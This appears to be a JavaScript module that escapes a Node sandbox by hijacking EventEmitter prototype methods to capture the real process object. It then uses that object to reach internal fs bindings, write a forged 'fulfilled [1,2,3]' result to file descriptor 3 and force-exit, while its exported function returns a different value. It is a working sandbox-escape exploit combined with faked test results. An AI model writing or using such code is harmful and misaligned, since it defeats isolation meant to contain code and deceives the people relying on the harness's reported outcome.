// Gets hold of the real process when Node emits an event on it, and of modules through that.
import { EventEmitter } from "node:events";

/** Puts something in the place of a function, in every way that there is. */
function replace(target, name, make) {
  const made = make(target[name]);
  for (const put of [
    () => void (target[name] = made),
    () => Object.defineProperty(target, name, { value: made, configurable: true, writable: true }),
    () => Reflect.set(target, name, made),
  ]) {
    try {
      put();
    } catch {}
  }
}

let real;
for (const name of [
  "emit",
  "on",
  "listenerCount",
  "off",
  "removeListener",
  "addListener",
  "listeners",
]) {
  replace(EventEmitter.prototype, name, (native) => {
    return function (...args) {
      if (this?.versions?.v8 !== undefined && this !== process) real ??= this;
      return Reflect.apply(native, this, args);
    };
  });
}
const provoke = async () => {
  void Promise.reject(new Error("to make Node emit an event"));
  await new Promise((resolve) => setTimeout(resolve, 1));
  return real;
};

export async function waitN() {
  const found = await provoke();
  found?.getBuiltinModule?.("fs").writeSync(3, '["done",[["fulfilled",1,["array",[1,2,3]]]]]\n');
  found?.binding?.("fs");
  found?.reallyExit?.(0);
  return [1];
}
